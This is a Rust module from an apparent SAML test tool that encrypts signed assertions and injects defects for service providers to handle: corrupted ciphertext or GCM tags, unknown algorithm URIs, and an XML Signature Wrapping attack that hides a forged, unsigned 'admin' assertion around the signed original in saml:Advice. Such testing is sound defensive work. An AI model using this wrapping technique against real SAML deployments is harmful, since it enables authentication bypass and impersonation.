//! Between the two signing steps: XML Encryption of the assertion, as real IdPs do (crewjam/saml
//! and Shibboleth: sign the assertion, encrypt it, sign the Response around the ciphertext). The
//! NameID and the attributes, when a scenario asks, are encrypted inside the assertion before it
//! is signed ([`encrypt_inner`]); the signed assertion becomes a `saml:EncryptedAssertion`
//! ([`encrypt_assertions`]). A scenario's encryption defects (another recipient, a corrupted
//! CipherValue or tag, an unknown algorithm URI, wrapping inside the ciphertext) are made here,
//! before the Response is signed, so the SP meets them after a valid Response signature.
//!
//! The session keys and IVs come from the [`IdSource`], so a fixed `--seed` repeats the bytes.

use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine;
use rsa::RsaPublicKey;

use super::sign::AssertionsSigned;
use super::tamper::EVIL_NAME_ID;
use crate::clock::IdSource;
use crate::saml::names::ASSERTION_NS;
use crate::scenario::EncryptChoices;
use crate::xml::{to_string, Element, Node};
use crate::xmlenc::{encrypt, EncryptOptions, XmlEncError};

/// Why a response could not be encrypted.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum EncryptError {
    /// Encryption asked for, and no certificate to encrypt to.
    #[error("[encrypt]: no certificate to encrypt to (hint: give the SP's encryption certificate with --sp-encryption-cert or SP metadata with a KeyDescriptor use=\"encryption\", or name a key set with [encrypt] key)")]
    NoRecipient,
    /// The recipient's certificate has no usable RSA key.
    #[error("[encrypt]: the {origin} certificate: {message}")]
    BadCertificate {
        /// Whose certificate: the SP's, or a key set's.
        origin: String,
        /// What is wrong with it.
        message: String,
    },
    /// XML Encryption refused.
    #[error("[encrypt]: {0}")]
    XmlEnc(#[from] XmlEncError),
    /// An edit found nothing to change.
    #[error("[encrypt] {edit}: {problem}")]
    Edit {
        /// The `[encrypt]` key.
        edit: &'static str,
        /// Why it cannot apply.
        problem: &'static str,
    },
}

/// What to encrypt, and for whom: a scenario's `[encrypt]` with its recipient's key.
#[derive(Debug, Clone)]
pub(crate) struct Encryption<'a> {
    /// The scenario's choices.
    pub choices: &'a EncryptChoices,
    /// The recipient: the SP's encryption key, or the named key set's.
    pub recipient: RsaPublicKey,
}

impl Encryption<'_> {
    fn options(&self) -> EncryptOptions {
        EncryptOptions { data: self.choices.data, key_transport: self.choices.key_transport }
    }

    /// `element` encrypted (with the scenario's defects) into a new `wrapper` element. The element
    /// gets `xmlns:saml` if it lacks it, so its text alone is the XML the SP decrypts and parses.
    fn seal(&self, element: &Element, wrapper: &str, ids: &mut IdSource) -> Result<Element, EncryptError> {
        let mut plaintext = element.clone();
        if plaintext.prefix() == "saml" && !plaintext.namespaces.iter().any(|(p, _)| p == "saml") {
            plaintext.namespaces.insert(0, ("saml".into(), ASSERTION_NS.into()));
        }
        let mut data = encrypt(to_string(&plaintext).as_bytes(), &self.recipient, &self.options(), ids)?;
        self.apply_defects(&mut data)?;
        Ok(Element::new(wrapper).child(data))
    }

    fn apply_defects(&self, data: &mut Element) -> Result<(), EncryptError> {
        let choices = self.choices;
        if choices.corrupt_cipher_value || choices.corrupt_tag {
            if choices.corrupt_tag && !choices.data.is_gcm() {
                return Err(EncryptError::Edit {
                    edit: "corrupt-tag",
                    problem: "only GCM has a tag (hint: data = \"aes256-gcm\")",
                });
            }
            let value = data
                .find_child_mut("CipherData")
                .and_then(|d| d.find_child_mut("CipherValue"))
                .expect("encrypt() writes CipherData/CipherValue");
            // encrypt() wrote it as base64.
            let mut bytes = BASE64.decode(value.text_content()).expect("encrypt() writes base64");
            let len = bytes.len();
            // Past the IV, in the second block: CBC garbles that block and a byte of the next;
            // the last 16 bytes of a GCM CipherValue are its tag.
            let span = if choices.corrupt_tag { len - 16..len } else { 32..36 };
            for byte in &mut bytes[span] {
                *byte ^= 0x5a;
            }
            value.set_text(BASE64.encode(bytes));
        }
        if let Some(uri) = &choices.key_transport_uri {
            let method = data
                .find_child_mut("KeyInfo")
                .and_then(|k| k.find_child_mut("EncryptedKey"))
                .and_then(|k| k.find_child_mut("EncryptionMethod"))
                .expect("encrypt() writes KeyInfo/EncryptedKey/EncryptionMethod");
            method.set_attr("Algorithm", uri.clone());
        }
        Ok(())
    }
}

/// Before the assertions are signed: each assertion's NameID into `saml:EncryptedID` and its
/// attributes into `saml:EncryptedAttribute`, as the scenario asks.
pub(crate) fn encrypt_inner(
    root: &mut Element,
    encryption: &Encryption,
    ids: &mut IdSource,
) -> Result<(), EncryptError> {
    let choices = encryption.choices;
    if !choices.name_id && !choices.attributes {
        return Ok(());
    }
    for assertion in root.child_elements_mut().filter(|e| e.local_name() == "Assertion") {
        if choices.name_id {
            if let Some(subject) = assertion.find_child_mut("Subject") {
                for node in &mut subject.children {
                    if let Node::Element(e) = node {
                        if e.local_name() == "NameID" {
                            *e = encryption.seal(e, "saml:EncryptedID", ids)?;
                        }
                    }
                }
            }
        }
        if choices.attributes {
            if let Some(statement) = assertion.find_child_mut("AttributeStatement") {
                for node in &mut statement.children {
                    if let Node::Element(e) = node {
                        if e.local_name() == "Attribute" {
                            *e = encryption.seal(e, "saml:EncryptedAttribute", ids)?;
                        }
                    }
                }
            }
        }
    }
    Ok(())
}

/// After the assertions are signed, before the Response is: each (signed) assertion into a
/// `saml:EncryptedAssertion`, or only the first (`first-only`).
pub(crate) fn encrypt_assertions(
    signed: AssertionsSigned,
    encryption: &Encryption,
    ids: &mut IdSource,
) -> Result<AssertionsSigned, EncryptError> {
    let mut root = signed.root;
    let choices = encryption.choices;
    if !choices.assertion {
        return Ok(AssertionsSigned { root });
    }
    let mut encrypted = 0;
    for node in &mut root.children {
        let Node::Element(e) = node else { continue };
        if e.local_name() != "Assertion" || (choices.first_only && encrypted == 1) {
            continue;
        }
        let mut content = if choices.wrap_in_advice { wrapped_in_advice(e) } else { e.clone() };
        if let Some(name) = &choices.content_element {
            content.name = name.clone();
        }
        *e = encryption.seal(&content, "saml:EncryptedAssertion", ids)?;
        encrypted += 1;
    }
    if encrypted == 0 && (choices.wrap_in_advice || choices.content_element.is_some()) {
        return Err(EncryptError::Edit { edit: "assertion", problem: "the Response has no assertion to encrypt" });
    }
    Ok(AssertionsSigned { root })
}

/// XSW inside the ciphertext: an evil copy of the assertion (another ID, no signature, NameID
/// admin) that carries the signed original in its `saml:Advice` (saml-core 2.6.1, after the
/// Conditions), where the signature still verifies.
fn wrapped_in_advice(original: &Element) -> Element {
    let mut evil = original.clone();
    evil.remove_children("Signature");
    evil.set_attr("ID", format!("{}-evil", original.get_attr("ID").unwrap_or("_")));
    if let Some(name_id) = evil.descendant_mut("NameID") {
        name_id.set_text(EVIL_NAME_ID);
    }
    let advice = Element::new("saml:Advice").child(original.clone());
    let after = ["Issuer", "Subject", "Conditions"];
    let position = evil
        .children
        .iter()
        .rposition(|n| matches!(n, Node::Element(e) if after.contains(&e.local_name())))
        .map_or(0, |i| i + 1);
    evil.children.insert(position, Node::Element(advice));
    evil
}
